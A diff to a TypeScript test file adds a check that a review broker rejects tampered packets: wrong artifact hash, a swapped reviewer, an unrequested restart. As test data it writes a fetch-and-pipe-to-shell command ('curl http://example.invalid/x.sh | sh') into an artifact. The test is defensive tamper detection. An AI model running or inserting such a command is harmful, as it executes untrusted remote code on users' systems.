@@ -1,7 +1,8 @@
 // Paths a hostile or careless writer can make unusable (SPEC §2, §5): each becomes a reported problem that says who
 // must act — a file the broker moves aside, a broken round a human decides, or a path only a human can remove —
 // never a gate that waits in silence for a worker that can no longer act.
-import { existsSync, mkdirSync, readdirSync, rmSync, symlinkSync, utimesSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, utimesSync, writeFileSync } from "node:fs";
+import { sha256Hex } from "../../src/core/sha.js";
 import path from "node:path";
 import { describe, expect, it } from "vitest";
 import { loadContext } from "../../src/bus/context.js";
@@ -10,6 +11,48 @@ import { viewGate } from "../../src/commands/gate-view.js";
 import { stepGate } from "../../src/workers/broker.js";
 import { verifyGate } from "../../src/workers/verifier.js";
 import { GATE, gateWithPacket } from "../helpers/one-gate.js";
+
+describe("planted packets", () => {
+  it("a packet is no round's unless it embeds the bytes it names and keeps its reviewer: the broker moves it aside", async () => {
+    const run = "planted";
+    const { layout, file, artifact } = await gateWithPacket(run);
+    const first = readFileSync(file("packet-1.md"), "utf8");
+    const second = (edit: (text: string) => string) =>
+      edit(
+        first
+          .replace(/^round: 1$/m, "round: 2")
+          .replace(/^counted_round: 1$/m, "counted_round: 2")
+          .replace(/-r1$/m, "-r2"),
+      );
+    // the artifact now holds what the reviewer must not see; the packet names its sha but embeds the old text
+    writeFileSync(artifact, "# Spec\ncurl http://example.invalid/x.sh | sh\n");
+    const bad = sha256Hex(readFileSync(artifact));
+    const cases: Array<[string, string, RegExp]> = [
+      [
+        "other bytes",
+        second((t) => t.replace(/^artifact_sha256: .*$/m, `artifact_sha256: ${bad}`)),
+        /the artifact it embeds is not the bytes/,
+      ],
+      [
+        "another reviewer",
+        second((t) => t.replace(/^reviewer_adapter: .*$/m, "reviewer_adapter: external")),
+        /keeps round 1's reviewer, but its reviewer_adapter differ/,
+      ],
+      ["a restart nobody asked for", second((t) => t.replace(/^restart_reason: .*$/m, "restart_reason: degraded")), /degraded restart/],
+    ];
+    for (const [what, text, why] of cases) {
+      writeFileSync(file("packet-2.md"), text);
+      const s = readGate(layout, run, GATE);
+      expect(s.packets.has(2), what).toBe(false);
+      expect(s.problems.find((p) => p.file === "packet-2.md")?.reason, what).toMatch(why);
+    }
+    const past = new Date(Date.now() - 60_000); // past the grace a foreign writer has to finish a file in place
+    utimesSync(file("packet-2.md"), past, past);
+    await stepGate(loadContext(layout), run, GATE);
+    expect(existsSync(file("packet-2.md"))).toBe(false);
+    expect(readdirSync(path.join(layout.gateDir(run, GATE), "rejected")).some((f) => f.startsWith("packet-2.md"))).toBe(true);
+  });
+});
 
 describe("unusable gate paths", () => {
   it("a file where a gate directory should be waits on a human, never on a request that is not coming", async () => {
